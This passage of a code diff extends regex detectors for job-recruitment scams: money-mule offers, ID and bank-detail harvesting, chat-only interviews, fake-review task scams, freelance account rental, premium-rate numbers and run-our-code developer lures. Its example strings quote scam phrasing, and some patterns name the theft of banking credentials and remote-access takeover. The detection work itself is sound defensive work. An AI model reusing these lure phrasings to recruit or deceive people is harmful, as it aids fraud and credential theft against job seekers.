+            r" |savings )?(?:bank account|account details|accounts|card|bank acc(?:t|ount)?|acct)\b"
+            r"",
+            # a cut of the money that passes through ("u keep 10 percent", "5% of each transfer")
+            r"\bkeep (?:a |your )?[0-9]{1,2} ?(?:%|percent|per ?cent)(?: ?[.,!;]|$| for yourself"
+            r"| of (?:it|each|every|the (?:money|amount|funds|transfers?|payments?))| as (?:your )?"
+            r"(?:commission|fee|pay|cut))"
+            r"|\b[0-9]{1,2} ?(?:%|percent|per ?cent) (?:of|on|from) (?:each|every|the) (?:transfer"
+            r"|transaction|payment|deposit|amount (?:received|transferred))s?\b",
+            r"\b(?:client|customer|third[- ]party|our clients'?|our customers'?) (?:payments|funds"
+            r"|money|transfers|deposits)(?: [a-z']+){0,3} (?:will|would|are going to|can)"
+            r" (?:arrive|land|come|be (?:sent|paid|deposited|wired|transferred)) (?:in|into|on|to)"
+            r" (?:your|ur) (?:personal |own |private )?(?:bank )?account\b",
             r"\b(?:transfer|send|wire|forward|move|pass) (?:them|it|the (?:funds|money|payments))"
             r" (?:on|onward|onwards|to our|to the (?:company|client|supplier))\b",
             r"\bprocess (?:customer|client|company) payments\b",
             r"\bkeep (?:a |an |your )?(?:[0-9]{1,2} ?% )?(?:commission|percentage|cut)\b",
-            r"\bopen (?:a |an )?(?:new |second |additional )?(?:bank )?account (?:in your name"
-            r"|for (?:us|the company|this job)|to (?:receive|collect|process|handle) (?:the |our )?"
+            r"\b(?:open|set up|create) (?:a |an )?(?:new |second |additional |fresh |separate )?"
+            r"(?:bank |online |business )?account (?:in your name|for (?:us|the company|this job"
+            r"|(?:the |our )?(?:company'?s? )?(?:incoming |client |customer )?(?:payments|funds"
+            r"|transfers|deposits))|to (?:receive|collect|process|handle) (?:the |our )?"
             r"(?:client |customer |company )?(?:payments?|funds|money|transfers?|deposits?))\b",
             r"\b(?:online[- ]banking|bank|banking) (?:login|log-in|credentials|password|access"
             r"|username)\b",
@@ -493,13 +732,27 @@ MONEY_MULE = PatternSignal(
             r"\b(?:recevoir|recevez|recevrez|recevriez|recois|recevras|receptionner"
             r"|receptionnerez) (?:des |les )?(?:virements|fonds|paiements|sommes|transferts)"
             r"(?: \w+){0,3} (?:sur|dans) (?:votre|ton) (?:propre |nouveau )?compte\b",
-            r"\b(?:garder|gardez|conservez|conserver|garde) (?:une |votre |un |ta )?(?:commission"
-            r"|pourcentage)\b",
+            r"\b(?:garder|gardez|conservez|conserver|garde|gardes|conserves|gardant|conservant)"
+            r" (?:une |votre |un |ta )?(?:commission|pourcentage|[0-9]{1,2} ?(?:%|pour ?cent)"
+            r"(?: ?[.,!;]|$| (?:de|sur) (?:chaque|chacun|la somme|les sommes|l'argent|les fonds"
+            r"|tous les)| au passage| pour (?:vous|toi)| (?:de|en) commission))",
+            r"\b[0-9]{1,2} ?(?:%|pour ?cent) (?:sur|de) (?:chaque|chacun des|tous les) (?:transfert"
+            r"s?"
+            r"|virements?|transactions?|operations?|paiements?|versements?)\b|\b(?:remuneree?s?"
+            r"|payee?s?) au pourcentage\b",
+            r"\b(?:paiements|virements|fonds|sommes|transferts|versements) (?:de nos|des|de mes)"
+            r" (?:clients|partenaires|tiers)(?: [\w']+){0,2} (?:arriveront|arrivent|arriveraient"
+            r"|seront (?:verses|vires|deposes|envoyes|credites)|transiteront|transitent) (?:sur"
+            r"|dans) (?:votre|ton) (?:propre |nouveau )?compte\b",
+            r"\b(?:vous|tu) (?:les |leur )?(?:transfererez|transfereras|reverserez|reverseras"
+            r"|virerez|vireras) (?:ensuite |immediatement |aussitot )?(?:a|vers|sur|aux)\b",
             r"\b(?:transmettre|transmettez|communiquer|communiquez|donner|donnez) (?:vos |tes )?"
             r"(?:codes? d'acces|identifiants (?:bancaires|de banque)|codes bancaires)\b",
-            r"\b(?:preter|louer|utiliser) (?:votre|ton) compte bancaire\b",
-            r"\bouvrir un (?:nouveau )?compte (?:bancaire )?(?:a votre nom|pour (?:nous"
-            r"|la societe))\b",
+            r"\b(?:preter|louer|utiliser) (?:votre|ton|leur|leurs|vos|tes|son) comptes? bancaires?"
+            r"\b",
+            r"\bouvr\w{0,4} un (?:nouveau |second |deuxieme )?compte (?:(?:bancaire|en ligne"
+            r"|courant) ){0,2}(?:a (?:votre|ton) nom|pour (?:nous|la societe|l'entreprise|la boite"
+            r"|encaisser|recevoir))",
             # the job needs an account at a given bank: a mule recruiter picks the banks whose
             # transfers it can use (F6: Febelfin, Beobank, ABE Infoservice)
             r"\bif (?:you|u) (?:have|hold|own|bank with|are (?:a )?(?:customer|client) (?:of|at"
@@ -528,12 +781,27 @@ MONEY_MULE = PatternSignal(
           spans=("open a new bank account to receive the client payments",)),
         E("Vous recevrez des virements de nos clients sur votre compte.", lang="fr",
           spans=("recevrez des virements de nos clients sur votre compte",)),
+        E("Customer payments will land in your personal account; keep 8% as your commission.",
+          spans=("Customer payments will land in your personal account",
+                 "keep 8% as your commission")),
+        E("Can you create a separate bank account for our incoming transfers?",
+          spans=("create a separate bank account for our incoming transfers",)),
+        E("Les fonds de nos partenaires transiteront sur votre compte, vous les reverserez "
+          "ensuite à notre fournisseur en gardant 7 %.", lang="fr",
+          spans=("fonds de nos partenaires transiteront sur votre compte",
+                 "vous les reverserez ensuite à", "gardant 7 %")),
+        E("Tu peux ouvrir un compte en ligne à ton nom ? 3 % sur chaque virement.", lang="fr",
+          spans=("ouvrir un compte en ligne à ton nom", "3 % sur chaque virement")),
     ),
     counterexamples=(
         E("Your salary will be paid into your bank account at the end of each month."),
         E("Votre salaire sera versé sur votre compte à la fin du mois.", lang="fr"),
         E("Vous recevrez votre salaire sur votre compte chaque mois.", lang="fr"),
         E("We will open an account for you on our HR portal to receive your documents."),
+        E("As customer success lead you'll keep 95% of accounts renewing each year."),
+        E("Your salary payments will be paid into your own bank account monthly."),
+        E("Vous gardez 80 % de votre salaire pendant le congé parental.", lang="fr"),
+        E("Créez votre compte candidat pour suivre votre dossier.", lang="fr"),
     ),
 )
 
@@ -561,13 +829,20 @@ EARLY_IDENTITY_REQUEST = PatternSignal(
     unless_scope="sentence",
     patterns={
         "message": (
+            # the document may come after other items of a list ("send your full name,
+            # birthdate and ..."), or as a scan of both sides
             r"\b(?:send|provide|upload|share|forward|email|submit|attach|scan|need|require|text"
-            r"|give)(?: me| us)? (?:a |an |the |your )?(?:(?:clear |scanned |front and back )?"
-            r"(?:copy|scan|photo|picture) of )?(?:your )?(?:id|id card|identity card|photo id"
-            r"|passport|driver'?s licen[cs]e|driving licen[cs]e|ssn|social security (?:number"
-            r"|card)|national insurance number|bank (?:details|account|statement|card)|routing"
-            r"(?: and account)? number|account number|date (?:and place )?of birth|sin number"
-            r"|tax id|selfie)\b",
+            r"|give|reply with|respond with)(?: me| us)? (?:(?:your |ur )?[a-z'\-]+(?: [a-z'\-]+)"
+            r"{0,2}, ){0,4}(?:a |an |the |your |ur )?(?:(?:clear |scanned |front and back |colou?r "
+            r")?"
+            r"(?:copy|scan|photo|picture|image|pic) of (?:both sides of |the front and back of )?)?"
+            r"(?:your |ur )?(?:id|id card|identity card|national (?:identity|id) card|identity"
+            r" document|photo id"
+            r"|passport|driver'?s licen[cs]e|driving licen[cs]e|driving permit|driver'?s permit|ssn"
+            r"|social security (?:number|card)|national insurance number|national id(?:entity)?"
+            r" number|bank (?:details|account|statement|card)|(?:bank )?routing"
+            r"(?: and account)? number|account number|date (?:and place )?of birth|birth ?date"
+            r"|sin number|tax id(?:entification)?(?: number)?|iban|selfie)\b",
             r"\b(?:bank|account) (?:details|information|info|number) (?:for|to set up) (?:the )?"
             r"(?:direct deposit|payroll|payment|salary)\b",
             r"\bfill (?:in|out) (?:the |this |our )?(?:attached )?(?:employment|onboarding|hiring"
@@ -575,11 +850,14 @@ EARLY_IDENTITY_REQUEST = PatternSignal(
             # French
             r"\b(?:envoyez|envoyer|envoie|envoyes|fournir|fournissez|transmettre|transmettez"
             r"|joindre|joignez|communiquer|communiquez|scanner|scannez|adresser|adressez"
-            r"|(?:faire|faites|fais)(?:-moi|-nous| moi| nous)? parvenir)(?:-moi|-nous| moi| nous)?"
+            r"|(?:faire|faites|fais)(?:-moi|-nous| moi| nous)? parvenir|(?:avons|aurions|aurons|ai"
+            r"|aurais) besoin)(?:-moi|-nous| moi| nous| de| d')?"
             r" (?:(?:une|la|votre|ta|un|le|les|vos|tes|copie|copies|photo|photos|scan|scans"
             r"|recto|verso|et|de|d'|lisible|lisibles|couleur|numerique|numeriques) ?){0,6}"
             r"(?:pieces? d'identite|cartes? d'identite|piece d'identite|carte"
-            r" d'identite|passeport|rib|releve d'identite bancaire|numero de securite sociale"
+            r" d'identite|carte nationale d'identite|cni|passeport|rib|iban|releve d'identite"
+            r" bancaire|numero de securite sociale|numero (?:avs|de registre national|national"
+            r"|fiscal|d'identification fiscale|nir)"
             r"|carte vitale|permis de conduire|photo d'identite|coordonnees bancaires|date (?:et"
             r" lieu )?de naissance)\b",
         )
@@ -593,6 +871,13 @@ EARLY_IDENTITY_REQUEST = PatternSignal(
           spans=("envoyer une copie de votre pièce d'identité",)),
         E("Merci de m'envoyer une photo recto verso de votre carte d'identité.", lang="fr",
           spans=("envoyer une photo recto verso de votre carte d'identité",)),
+        E("Email us your address, phone number, a picture of both sides of your driver's permit.",
+          spans=("Email us your address, phone number, a picture of both sides of your driver's "
+                 "permit",)),
+        E("pls respond with ur tax identification number today", spans=(
+            "respond with ur tax identification number",)),
+        E("Nous aurons besoin de votre IBAN et de votre numéro AVS dès aujourd'hui.", lang="fr",
+          spans=("aurons besoin de votre IBAN",)),
     ),
     counterexamples=(
         E("Could you send me your updated CV?"),
@@ -602,12 +887,16 @@ EARLY_IDENTITY_REQUEST = PatternSignal(
         E("Votre pièce d'identité sera demandée lors de l'embauche par les RH.", lang="fr"),
         # a real business e-mail of the corpus
         E("As I couldn't find your email ID or LinkedIn profile, I am writing to you here."),
+        E("Send us your CV, a cover letter, your availability and salary expectations."),
+        E("We need someone with a valid passport, as the role involves travel."),
+        E("Nous aurons besoin de votre CV et de vos disponibilités.", lang="fr"),
     ),
 )
 
-_CHAT_APPS = (r"(?:" + "|".join(app_name(w) for w in ("telegram", "whatsapp")) + r"|signal"
-              r"|hangouts|google chat|wickr|textnow|wechat|text messages?|sms|chat|instant"
-              r" messag\w{0,6}|messenger|imessage|texts?|e-?mail)")
+_CHATS = ("|".join(app_name(w) for w in ("telegram", "whatsapp")) + r"|signal"
+          r"|hangouts|google chat|wickr|textnow|wechat|text messages?|sms|chat|instant"
+          r" messag\w{0,6}|messenger|imessage|texts?")
+_CHAT_APPS = r"(?:" + _CHATS + r"|e-?mail)"
 CHAT_ONLY_INTERVIEW = PatternSignal(
     name="chat_only_interview",
     description="Holds the interview itself by text chat or asks to install a messaging app to "
@@ -622,8 +911,13 @@ CHAT_ONLY_INTERVIEW = PatternSignal(
                  + _CHAT_APPS + r"\b", r"[^.!?]{0,40}"),
             r"\b(?:text|chat|written|online chat|instant messaging|im|messaging)[- ](?:based )?"
             r"interviews?\b",
-            r"\b(?:answer|reply to|respond to|complete) (?:these|the|some|a few|my|our"
-            r"|the following)"
+            # the screening held in a chat (e-mail excluded: screening questions are often sent
+            # by e-mail)
+            near(r"\b(?:screening|screenings|selection process|recruitment process|hiring process"
+                 r"|interview process)\b", r"\b(?:via|on|over|through|by|in|using) (?:a |the )?"
+                 + r"(?:" + _CHATS + r")\b", r"[^.!?]{0,40}"),
+            r"\b(?:answer|reply to|respond to|complete) (?:these|the|some|a few|my|our|his|her"
+            r"|their|the following)"
             r" (?:interview |screening )?questions (?:by|via|over|in|on) (?:text|chat|message"
             r"|messages|writing|email|e-mail|telegram|whatsapp|signal)\b",
             r"\b(?:download|install|get) (?:the )?(?:" + app_name("telegram") + r"|"
@@ -653,12 +947,17 @@ CHAT_ONLY_INTERVIEW = PatternSignal(
           spans=("can't do phone calls", "answer these questions by text")),
         E("L'entretien se fera sur Telegram, répondez par écrit.", lang="fr",
           spans=("entretien se fera sur Telegram",)),
+        E("The whole selection process runs over WhatsApp; answer his questions in writing.",
+          spans=("selection process runs over WhatsApp", "answer his questions in writing")),
+        E("Ton entretien se passera par messages, réponds par écrit.", lang="fr",
+          spans=("entretien se passera par messages",)),
     ),
     counterexamples=(
         E("Join via this Teams link."),
         E("The first interview is a 30-minute video call; I'll send the invite by email.",
           note="video interview, invite by e-mail"),
         E("L'entretien aura lieu en visio sur Teams.", lang="fr"),
+        E("The screening questions will come by email, then a video interview."),
     ),
 )
 
@@ -716,7 +1015,26 @@ TASK_SCAM = PatternSignal(
             r"\b(?:complete|completing|finish|finishing|do|submit) (?:a |one |the |your |each"
             r" )?(?:set|sets|group|batch|round|series) of (?:[0-9]{1,3} )?(?:tasks|orders|reviews"
             r"|ratings|missions)\b",
-            r"\b[0-9]{2} (?:tasks|orders|ratings) (?:a|per|each) (?:day|set)\b",
+            r"\b[0-9]{2} (?:tasks|orders|ratings|reviews|likes|videos) (?:a|per|each) (?:day|set)\b"
+            r"",
+            r"\b(?:each|every|per|one|a) (?:set|batch|group|round|series) of [0-9]{1,3} (?:tasks"
+            r"|orders|reviews|ratings|missions|products)\b",
+            # ratings or reviews the candidate is paid to leave
+            r"\b(?:give|giving|leave|leaving|post|posting|write|writing|submit|submitting)"
+            r" (?:[0-9]{1,3} )?(?:(?:star|5-star|five-star|positive|fake|short|good)\s){0,2}"
+            r"(?:ratings?|reviews?|stars) (?:to|for|on) (?:[a-z]+ ){0,2}(?:hotels?|products?"
+            r"|restaurants?|apps?|merchants?|businesses|listings?|sellers?|stores?|movies?)\b",
+            r"\bpays? (?:you|u) (?:to|for) (?:give|giving|rate|rating|review|reviewing|like|liking"
+            r"|watch|watching|follow|following|subscrib\w{1,3}|click|clicking)\b",
+            r"\b(?:submit|submitting)(?: [a-z]+)? (?:orders|purchases)"
+            r" (?:on|in|through|via) (?:our|the) (?:app|platform|website|system)\b"
+            r"|\b(?:fake|simulated|virtual|dummy) orders\b",
+            r"\b(?:percentage|commission|cut|share) of (?:the |each |every )?(?:order|task|product)"
+            r" (?:value|amount|price)\b",
+            r"\b(?:subscrib(?:e|ing) to|follow(?:ing)?) (?:some |several |various |these |a few "
+            r"|[0-9]{1,3} )?(?:tiktok |youtube |instagram |social media )?(?:accounts|channels"
+            r"|influencers)\b",
+            r"\b(?:online|app|product|hotel) (?:evaluators?|raters?)\b",
             r"\b(?:top[- ]?up|recharge|reload|fund|deposit (?:into|to)) (?:your |the )?(?:task "
             r"|work"
             r" )?(?:account|balance|wallet)\b|\bnegative balance\b",
@@ -745,6 +1063,27 @@ TASK_SCAM = PatternSignal(
             r" (?:des |les |nos )?(?:produits|applications|applis|videos|publications|posts|hotels"
             r"|restaurants|commandes|chaines)\b",
             r"\blaisser des avis\b|\bavis (?:en ligne )?remuneres?\b",
+            r"\b(?:attribuer|donner|mettre|laisser|attribuez|donnez|mettez|laissez|rediger|redigez"
+            r"|poster|postez|publier|publiez|ecrire|ecrivez) (?:des |de |[0-9]{1,3} )?(?:[a-z]+ )?"
+            r"(?:etoiles|notes|avis|commentaires|evaluations) (?:a|aux|sur|pour) (?:des |les |nos"
+            r" |vos |leurs )?(?:hotels|produits|restaurants|applications|applis|commercants"
+            r"|marchands|boutiques|videos)\b",
+            r"\bevaluat(?:eur|rice)s? (?:en ligne|de produits|d'applications?|d'hotels?)\b",
+            r"\b(?:t'abonner|t'abonnes|vous abonner|vous abonnez|s'abonner|abonnez-vous"
+            r"|abonne-toi) (?:a|aux) (?:des |nos |ces |plusieurs )?(?:comptes|chaines|pages"
+            r"|profils)\b",
+            # (not per review: paid peer review pays an honorarium per review)
+            r"\b" + _NUM + r" ?" + _CUR + r" (?:par|pour chaque|chaque|la|le) (?:capture|like"
+            r"|abonnement|video|clic)\b|(?:" + _CUR + r" ?" + _NUM + r"|" + _NUM
+            + r" ?" + _CUR + r") (?:per|for each|each|a) (?:screenshot|like|follow|subscription"
+            r"|click)\b",
+            r"\bcommandes? (?:fictives?|simulees?|virtuelles?)\b",
+            r"\b(?:chaque|une) (?:serie|lot|groupe|ensemble) (?:de [0-9]{1,3} (?:taches|commandes"
+            r"|missions|avis) )?(?:validee?|terminee?|completee?) (?:vous )?(?:rapporte|donne|paie)"
+            r"\b",
+            r"\b(?:ameliorer|augmenter|booster|optimiser) (?:la |le |les )?(?:visibilite|classement"
+            r"|notes?|reputation|trafic) (?:de |des |du |d')(?:leurs |nos |vos |ses )?(?:produits"
+            r"|marchands|hotels|applications|boutiques|commercants)\b",
             r"\boptimis(?:eur|ation|atrice) d'(?:applications?|applis?)\b",
             r"\b(?:recharger|rechargez|alimenter|alimentez|crediter|creditez) (?:votre |ton |le )?"
             r"(?:compte|solde|cagnotte|portefeuille)\b",
@@ -772,6 +1111,15 @@ TASK_SCAM = PatternSignal(
           spans=("improve the reviews of various products",)),
         E("Sign up for a mission, deposit 500 and earn 5,000 in commission.",
           spans=("Sign up for a mission, deposit",)),
+        E("We pay you to leave five-star reviews for restaurants, $4 per screenshot, with a "
+          "commission of the order value on every batch of 20 orders.",
+          spans=("leave five-star reviews for restaurants", "$4 per screenshot",
+                 "every batch of 20 orders")),
+        E("The platform pays u for liking posts.", spans=("pays u for liking",)),
+        E("Suivez quelques chaînes et publiez des avis sur des produits : 2 € par capture.",
+          lang="fr", spans=("publiez des avis sur des produits", "2 € par capture")),
+        E("Des commandes fictives sur nos boutiques ; chaque lot validé vous rapporte 10 %.",
+          lang="fr", spans=("commandes fictives", "chaque lot validé vous rapporte")),
     ),
     counterexamples=(
         E("We're hiring a product manager to own our ratings and reviews platform."),
@@ -779,6 +1127,12 @@ TASK_SCAM = PatternSignal(
           note="a sales role: sales, not reviews or ratings"),
         E("Poste de chef de produit pour notre application mobile, CDI.", lang="fr"),
         E("Our mission is to help maintainers earn a living; complete the form to apply."),
+        E("As buyer you will place orders on our platform with approved suppliers."),
+        E("Follow our company page for updates on the role."),
+        E("The research council pays reviewers an honorarium of £150 per review.",
+          note="paid peer review"),
+        E("Vous améliorerez la visibilité de notre marque employeur sur les réseaux.",
+          lang="fr"),
     ),
 )
 
@@ -817,6 +1171,23 @@ ACCOUNT_RENTAL = PatternSignal(
             r"(?:upwork|fiverr|freelancer|toptal|linkedin|github|payoneer|stripe|malt|developer"
             r"|freelance|indeed) profiles?\b",
             r"\baccount (?:sharing|rental|renting|lending|partnership)\b",
+            # the sender works through the candidate's account or profile for a cut
+            r"\b(?:run|operate|manage|take|bid on|handle|get) (?:the |our |client |freelance )?"
+            r"(?:projects|jobs|contracts|clients|gigs|work) (?:through|via|using|under) (?:your|ur)"
+            r" (?:(?:upwork|fiverr|freelancer|freelance|toptal|linkedin|github|malt|developer"
+            r"|personal|own) (?:profile|account)|name|identity)s?\b",
+            r"\b[0-9]{1,2} ?(?:%|percent) of (?:everything|all|whatever|what) (?:it|the account"
+            r"|the profile|your (?:account|profile)) (?:earns|makes|generates|brings in)\b",
+            r"\b(?:upwork|fiverr|freelancer|toptal|linkedin|github|payoneer|malt|freelance|indeed)?"
+            r" ?(?:accounts?|profiles?) (?:older than [0-9a-z]{1,5} (?:years?|months?)|(?:of at"
+            r" least|at least|over|more than) [0-9a-z]{1,5} (?:years?|months?) old)\b|\b(?:aged|old"
+            r"|established)"
+            r" (?:upwork|fiverr|freelancer|linkedin|github|freelance) (?:accounts?|profiles?)\b",
+            # a "face" on camera while others do the work
+            r"\b(?:a|the|our) ['\"]?face['\"]? (?:for|of|on|in) (?:the |our )?(?:client |video )?"
+            r"(?:calls?|meetings?|interviews?|clients?)\b|\b(?:you|u) (?:appear|show up|sit"
+            r"|present) on (?:camera|video|calls?)\b[^.!?]{0,60}\b(?:while|and) (?:our|my|we|the)"
+            r" (?:engineers?|developers?|team|devs?)\b",
             r"\b(?:rent|lend) (?:us |me )?your (?:account|profile|identity|name)\b",
             r"\b(?:monthly|weekly|fixed) (?:fee|payment|rent|income) for (?:your|the use of your"
             r"|using your) (?:account|profile|identity|name)\b",
@@ -843,7 +1214,13 @@ ACCOUNT_RENTAL = PatternSignal(
             r"|computers?|devices?) (?:at|in) your (?:home|house|place|apartment)\b",
             # French
             r"\b(?:louer|preter|partager|utiliser|louez|pretez) (?:votre|ton|leur|son|vos|leurs)"
-            r" comptes? (?:upwork|fiverr|malt|linkedin|freelance|github|indeed)\b",
+            r" (?:comptes?|profils?) (?:upwork|fiverr|malt|linkedin|freelance|github|indeed)\b",
+            r"\bcomptes? (?:upwork|linkedin|fiverr|malt|freelance|github|indeed) (?:anciens?"
+            r"|ages|verifies?|de plus de [0-9a-z]{1,5} ans)\b",
+            near(r"\bcomptes?\b", r"\b(?:l'|les )exploiter\b", r"[^.!?;]{0,30}")
+            + r"|\bexploiter (?:votre|ton|leur|vos|leurs) comptes?\b",
+            r"\b(?:le|un|notre) visage (?:de l'equipe |du projet )?(?:lors des|pour les|pendant les"
+            r"|aux|devant les) (?:appels|reunions|entretiens|visios?|clients)\b|\bprete-nom\b",
             r"\blocation de (?:votre |ton )?(?:compte|comptes|profil)\b",
             r"\b(?:partager|partageons|partage) (?:le |les )?(?:salaire|revenus|gains)\b",
             r"\b(?:via|avec|par) (?:teamviewer|anydesk)\b|\b(?:prise de controle|controle) a"
@@ -891,10 +1268,21 @@ ACCOUNT_RENTAL = PatternSignal(
           spans=("louer votre compte Malt",)),
         E("Nous cherchons des profils pour prêter leur compte Malt, payé chaque mois.",
           lang="fr", spans=("prêter leur compte Malt",)),
+        E("We bid on contracts under your Upwork profile; you keep 15% of whatever the account "
+          "brings in.", spans=("bid on contracts under your Upwork profile",
+                               "15% of whatever the account brings in")),
+        E("Do you have a GitHub account older than 3 years? We need a face for client calls.",
+          spans=("account older than 3 years", "a face for client calls")),
+        E("On cherche des comptes Upwork vérifiés pour les exploiter ; vous serez le visage "
+          "lors des appels.", lang="fr",
+          spans=("comptes Upwork vérifiés", "le visage lors des appels")),
     ),
     counterexamples=(
         E("Please sign in with your GitHub account to access the take-home instructions."),
         E("Connectez-vous avec votre compte LinkedIn pour postuler.", lang="fr"),
+        E("We look for profiles over 5 years of experience in Go."),
+        E("You'll manage client projects through your account team in Paris."),
+        E("Vous exploiterez les profils clients pour la segmentation marketing.", lang="fr"),
     ),
 )
 
@@ -912,6 +1300,11 @@ PREMIUM_RATE_NUMBER = PatternSignal(
             r"|70[0-9])[ .\-]?[0-9]{3}[ .\-]?[0-9]{3,4}\b",
             r"(?:\+33 ?\(?0?\)? ?|\b0 ?)8 ?[129][0-9](?:[ .\-]?[0-9]{2}){3}\b",
             r"\b1[ .\-]?(?:900|976)[ .\-]?[0-9]{3}[ .\-]?[0-9]{4}\b",
+            # UK 09 numbers in any grouping of their eleven digits; Belgian 090x and Swiss
+            # 0900/0901/0906 premium lines (French-speaking candidates)
+            r"(?:\+44 ?\(?0?\)? ?|\b0)9[0-9]{2}(?:[ .\-]?[0-9]){7}\b",
+            r"(?:\+32 ?|\b0)90[0-9][ .\-/][0-9]{2}[ .\-]?[0-9]{3}\b",
+            r"(?:\+41 ?|\b0)90[016][ .\-][0-9]{3}[ .\-][0-9]{3}\b",
             r"\b(?:premium[- ]rate|pay[- ]per[- ]call)\b|\bnumeros? surtaxes?\b",
         )
     },
@@ -919,16 +1312,67 @@ PREMIUM_RATE_NUMBER = PatternSignal(
         E("Call 0909 879 0123 for your telephone interview.", spans=("0909 879 0123",)),
         E("Pour l'entretien téléphonique, appelez le 08 99 12 34 56.", lang="fr",
           spans=("08 99 12 34 56",)),
+        E("For the screening call ring 09045 678 901 between 9 and 5.",
+          spans=("09045 678 901",)),
+        E("Votre entretien : composez le 0903 45 678 (Belgique) ou le 0900 123 456 (Suisse).",
+          lang="fr", spans=("0903 45 678", "0900 123 456")),
     ),
     counterexamples=(
         E("Call me on 020 7946 0321 to book the interview.", note="London landline"),
         E("Appelez notre numéro vert 0 800 12 34 56.", lang="fr", note="free number"),
+        E("Mon numéro : 09 72 12 34 56, n'hésitez pas à m'appeler.", lang="fr",
+          note="a French 09 landline (internet box), not premium"),
+        E("Call me on 07911 123456 any time.", note="a UK mobile"),
     ),
 )
 
 # --------------------------------------------------------------------------------------------
 # developer lures
 # --------------------------------------------------------------------------------------------
+_THEIR_CODE = (r"(?:it|the (?:project|app|application|repo|code|codebase|mvp|backend|frontend|dapp"
+               r"|demo|prototype)|our (?:project|app|application|repo|code|codebase|mvp|backend"
+               r"|frontend|dapp|demo|prototype))")
+_LAUNCH_FR = r"(?:installer|lancer|executer|demarrer|faire tourner|deployer)"
+_PLACE_FR = (r"(?:en local|localement|chez (?:vous|toi)|sur (?:votre|ta|ton) (?:machine|ordinateur"
+             r"|poste|pc|portable)|(?:avant|pendant|durant) (?:l'|le |la |notre |votre |ton |ta )?"
+             r"(?:entretien|appel|reunion|rendez-vous|call|echange|visio|visioconference))")
+#: More phrasings of L1/L2 (run, or debug and extend, the sender's code) than the detectors'
+#: shared list: a pronoun for the project ("download it and run it"), "get it running", the
+#: task framed as extending "our existing" app.
+_RUN_CODE_MORE = (
+    r"\b(?:you|u|please|pls) (?:to )?(?:get|have) " + _THEIR_CODE + r" (?:up and )?running\b"
+    r"|\bget " + _THEIR_CODE + r" (?:up and )?running (?:locally|on (?:your|ur) (?:machine"
+    r"|computer|laptop|pc|side|end)|before)\b",
+    r"\b(?:patch|fix|troubleshoot) (?:whatever|anything that|what's|whats)(?: is| was)?"
+    r" (?:breaking|broken|failing|wrong|not working)\b",
+    r"\b(?:pull|clone|download|grab|fetch|install|unzip|extract) (?:it|the (?:repo|project"
+    r"|code))(?: down)?,? (?:and |then )?(?:(?:start|spin|fire|boot|set) (?:it )?up|(?:run"
+    r"|launch|execute|open|start) it)\b",
+    r"\b(?:troubleshoot|debug|fix|repair|run|install|launch|start|deploy|build) " + _THEIR_CODE
+    + r" (?:up )?(?:on (?:your|ur) (?:own )?(?:machine|computer|laptop|pc|local machine|device)"
+    r"|before we (?:speak|talk|meet|chat|call|connect))\b",
+    near(r"\b(?:test|task|assignment|assessment|exercise|challenge|interview)\b",
+         r"\b(?:extend|modify|enhance|refactor|build on|add (?:a |an |the )?(?:[a-z\-]+ ){0,2}"
+         r"(?:feature|module|endpoint|page|component)s? to) (?:our|the|this|my) existing"
+         r" (?:[a-z\-]+ ){0,3}(?:project|app|application|platform|dashboard|codebase|repo"
+         r"|backend|frontend|dapp|system|website|bot|api)\b", r"[^.!?]{0,80}"),
+    # French
+    r"\b" + _LAUNCH_FR + r"(?: et " + _LAUNCH_FR + r")? (?:en local|localement|sur (?:votre|ta"
+    r"|ton) (?:machine|ordinateur|poste|pc)) (?:notre|le|la|l'|votre|ton) ?(?:projet|application"
+    r"|appli|code|depot|repo|mvp|demo|backend|prototype)\b",
+    r"\bl'(?:installer|executer|lancer|deployer)(?: [\w'-]+){0,5} " + _PLACE_FR + r"\b",
+    r"\b(?:installe|lance|execute|demarre|clone|deploie|recupere|telecharge)z?-(?:le|la|les),?"
+    r" (?:puis |et )?(?:installe|lance|execute|demarre|deploie)z?-(?:le|la|les)\b"
+    r"|\bfai(?:s|tes)-(?:le|la|les) tourner\b",
+    near(r"\b(?:test|exercice|epreuve|cas pratique|entretien)\b",
+         r"\b(?:ajoute[rz]?|etend(?:re|ez)|modifie[rz]?|complete[rz]?|ameliore[rz]?)"
+         r"(?: [\w'-]+){0,5} (?:a|dans|sur)"
+         r" (?:notre|votre|la|le) (?:[\w-]+ )?(?:plateforme|application|projet|code|backend"
+         r"|tableau de bord|site|api)(?: [\w-]+)? existante?\b", r"[^.!?]{0,80}"),
+    r"\b(?:clone[zr]?|recupere[zr]?|telecharge[zr]?) (?:le|ce|notre|mon) (?:depot|repo|projet"
+    r"|code source|code de (?:depart|l'exercice|base|test)|code(?: ?[.;!]|$))",
+)
+
 RUN_OUR_CODE = PatternSignal(
     name="run_our_code",
     description="Asks the candidate to install and run, or review, debug or extend, the "
@@ -938,7 +1382,7 @@ RUN_OUR_CODE = PatternSignal(
     source="L1/L2: Unit 42 Feb 2026; FBI IC3 PSA Sept 2024 ('debugging exercise'); GitHub Jul "
     "2023; Socket; Phylum; dev-trap-dossiers; alien45; Emilian Bold; Dan Heskett; xndbogdan; "
     "roman.pt; Microsoft Feb 2026",
-    patterns={"message": d.RUN_CODE_PATTERNS},
+    patterns={"message": d.RUN_CODE_PATTERNS + _RUN_CODE_MORE},
     examples=(
         E("Please clone the repo, run npm install and npm start before our call.",
           spans=("clone the repo", "npm install", "npm start")),
@@ -958,6 +1402,17 @@ RUN_OUR_CODE = PatternSignal(
           lang="fr", spans=("le lancer sur votre poste avant l'entretien",)),
         E("Peux-tu faire tourner notre projet ce soir ?", lang="fr",
           spans=("faire tourner notre projet",)),
+        E("Pull it down, spin it up and fix whatever is failing on the checkout page.",
+          spans=("Pull it down, spin it up", "fix whatever is failing")),
+        E("As the test, add a staking module to our existing dapp, then get it running on your "
+          "laptop.", spans=("test, add a staking module to our existing dapp",
+                            "get it running on your laptop")),
+        E("Téléchargez-le, lancez-le, puis dites-nous ce que vous en pensez.", lang="fr",
+          spans=("Téléchargez-le, lancez-le",)),
+        E("Pour l'exercice, modifiez le module de paiement dans notre application existante et "
+          "merci de l'exécuter sur votre poste.", lang="fr",
+          spans=("exercice, modifiez le module de paiement dans notre application existante",
+                 "l'exécuter sur votre poste")),
     ),
     counterexamples=(
         E("After our call you'll get a 2-hour HackerRank exercise."),
@@ -967,6 +1422,11 @@ RUN_OUR_CODE = PatternSignal(
         # a take-home brief: the candidate documents how to run the code they wrote
         E("Livrables : le code source dans un dépôt Git et un README avec les instructions "
           "pour lancer l'application et les tests.", lang="fr"),
+        E("In this role you'll extend our existing platform with new payment features.",
+          note="a job description, no test or run request"),
